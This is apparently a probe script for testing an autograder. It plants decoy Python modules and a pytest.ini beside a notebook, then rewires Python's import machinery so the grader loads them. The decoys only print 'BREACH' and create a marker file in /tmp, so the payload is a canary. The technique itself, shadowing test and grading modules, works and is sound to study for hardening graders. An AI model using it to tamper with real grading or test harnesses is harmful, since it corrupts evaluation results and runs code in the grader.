# aim: have tools of the grader import modules that lie beside the notebook
# task: share  points: 0
# lines: 34, 35, 67
import os
import pathlib
import sys

for name in ("conftest", "numpy", "pandas", "cyberattache", "probe", "helper", "sitecustomize", "nbgrader_config", "pytest_forge"):
    pathlib.Path(f"{name}.py").write_text("print('BREACH')\nopen('/tmp/shadowed', 'w').close()\nload_tests = lambda *_: None\n")
pathlib.Path("pytest.ini").write_text("[pytest]\naddopts = -p pytest_forge\n")
sys.path.insert(0, os.getcwd())
sys.path_hooks.insert(0, lambda path: (_ for _ in ()).throw(ImportError))
sys.meta_path.insert(0, type("Finder", (), {"find_spec": staticmethod(lambda *args: None)}))
sys.modules.pop("cyberattache.compare", None)
